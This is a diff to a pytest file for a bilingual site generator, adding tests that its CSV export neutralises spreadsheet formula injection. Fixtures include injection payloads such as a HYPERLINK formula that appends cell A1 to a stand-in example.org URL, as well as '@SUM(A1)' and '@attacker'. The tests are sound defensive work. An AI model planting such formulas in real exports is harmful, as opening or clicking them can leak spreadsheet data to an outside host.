@@ -13,6 +13,7 @@ import pytest
 from conftest import FIXTURES, ROOT, copy_project
 from generator import datadict, history
 from generator.generate import generate
+from generator.formula_guard import FORMULA_STARTS, restore
 from generator.opendata import csv_columns
 from generator.output import PUBLISHED_DIRS
 from generator.project import Project
@@ -68,6 +69,8 @@ def test_csv_equals_the_records(site):
     rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
     records = _records("cases")
     assert [r["id"] for r in rows] == [r["id"] for r in records]
+    assert not [v for row in rows for v in row.values() if v[:1] in FORMULA_STARTS]   # nothing can run
+    rows = [{column: restore(value) for column, value in row.items()} for row in rows]
     for row, record in zip(rows, records):
         assert row["title_en"] == record["title"]["en"] and row["title_zh"] == record["title"]["zh"]
         assert row["summary_zh"] == record["summary"]["zh"]
@@ -155,3 +158,79 @@ def test_publish_writes_only_into_its_own_folders(fixture_project, monkeypatch):
                         or real(root, files, owned, changes))
     generate(Project(fixture_project))
     assert written and {path.split("/", 1)[0] for path in written} == set(PUBLISHED_DIRS)
+
+
+# --- Formula injection (OWASP CSV injection): text cells that could run as formulas ----------
+
+FORMULA_TEXTS = ['=HYPERLINK("https://example.org/x?"&A1,"click")', "+1+1", "-5 % energy", "@SUM(A1)",
+                 "\t=1+1", "\r=1+1", "'=already quoted", "''-two quotes"]
+HARMLESS_TEXTS = ["'s-Hertogenbosch", "plain text", "", 'a "quoted" word, with a comma', "5 % less", "＝1"]
+
+
+def test_guard_prefixes_only_what_could_run_and_restore_undoes_exactly_that():
+    from generator.formula_guard import guard
+    for text in FORMULA_TEXTS:
+        assert guard(text) == "'" + text, repr(text)
+        assert guard(text)[0] not in FORMULA_STARTS
+    for text in HARMLESS_TEXTS:
+        assert guard(text) == text, repr(text)
+    for text in FORMULA_TEXTS + HARMLESS_TEXTS:
+        assert restore(guard(text)) == text, repr(text)
+    assert restore("'s-Hertogenbosch") == "'s-Hertogenbosch"      # a quote the guard did not add stays
+
+
+def _synthetic_case(**changes):
+    record = {"id": "fx-formula", "title": {"en": "=1+1", "zh": "@測試"}, "summary": {"en": "-5 % energy",
+              "zh": "測試。"}, "sector": "other", "pollutants": ["air-voc"], "technologies": [],
+              "initiative": "pilot", "year": 2021, "company": "'=quoted", "sources": [{"id": "s", "title": "=x"}]}
+    record.update(changes)
+    return record
+
+
+def test_cases_csv_prefixes_formula_text_quotes_every_text_cell_and_leaves_numbers_alone():
+    from generator.opendata import cases_csv
+    raw = cases_csv([_synthetic_case(), _synthetic_case(id="fx-negative", year=-5)], SCHEMAS["case"])
+    lines = raw.lstrip("\ufeff").split("\r\n")
+    assert lines[0].startswith('"id","former_ids","title_en","title_zh",')      # the header is text too
+    rows = list(csv.DictReader(io.StringIO(raw.lstrip("\ufeff"), newline="")))
+    assert rows[0]["title_en"] == "'=1+1" and rows[0]["title_zh"] == "'@測試"
+    assert rows[0]["summary_en"] == "'-5 % energy" and rows[0]["summary_zh"] == "測試。"
+    assert rows[0]["company"] == "''=quoted"
+    assert rows[0]["sources"] == '[{"id":"s","title":"=x"}]'      # JSON text begins with [ or {: unchanged
+    assert {restore(rows[0][c]) for c in ("title_en", "summary_en", "company")} == {"=1+1", "-5 % energy", "'=quoted"}
+    # every text cell is in double quotes; the numeric year column is a bare number, even when negative
+    assert lines[1].startswith('"fx-formula","","\'=1+1","\'@測試","\'-5 % energy","測試。","other","air-voc","",'
+                               '"pilot",2021,')
+    assert ',"pilot",-5,' in lines[2] and rows[1]["year"] == "-5"
+
+
+def test_published_csv_of_a_record_with_formula_text(tmp_path, monkeypatch):
+    """End to end: a record whose texts begin with formula characters, built into data/cases.csv."""
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
+    project = copy_project(tmp_path / "p", records_from=FIXTURES / "project")
+    record = project / "cases" / "fx-case-minimal.yaml"
+    text = record.read_text(encoding="utf-8")
+    text = text.replace("title: {en: Fixture minimal case,",
+                        'title: {en: "=HYPERLINK(\\"https://example.org/x\\",\\"click\\")",')
+    text = text.replace("summary: {en: Only the required fields.,", 'summary: {en: "-5 % energy, +1",')
+    record.write_text(text.replace("year: 2012\n", 'year: 2012\ncompany: "@attacker"\n'), encoding="utf-8")
+    generate(Project(project))
+    raw = (project / "content/en/data/cases.csv").read_text(encoding="utf-8-sig")
+    row = next(r for r in csv.DictReader(io.StringIO(raw, newline="")) if r["id"] == "fx-case-minimal")
+    assert row["title_en"] == "'=HYPERLINK(\"https://example.org/x\",\"click\")"
+    assert row["summary_en"] == "'-5 % energy, +1" and row["company"] == "'@attacker"
+    assert row["year"] == "2012" and ',"not-stated",2012,' in raw
+    assert '"\'=HYPERLINK(""https://example.org/x"",""click"")"' in raw     # quoted, inner quotes doubled
+    data = json.loads((project / "content/en/data/cases.json").read_text(encoding="utf-8"))
+    case = next(c for c in data["cases"] if c["id"] == "fx-case-minimal")
+    assert case["title"]["en"] == "=HYPERLINK(\"https://example.org/x\",\"click\")"    # JSON: as it is
+
+
+@pytest.mark.parametrize("lang,words", [("en", ["OWASP", "single quote (')", "never changed"]),
+                                        ("zh", ["OWASP", "單引號（'）", "從不改動"])])
+def test_data_page_says_how_formula_cells_are_written(fixture_project, lang, words):
+    generate(Project(fixture_project))
+    page = (fixture_project / "content" / lang / "data" / "index.md").read_text(encoding="utf-8")
+    section = page[page.index("{ #csv }"):]
+    for word in words:
+        assert word in section, (lang, word)
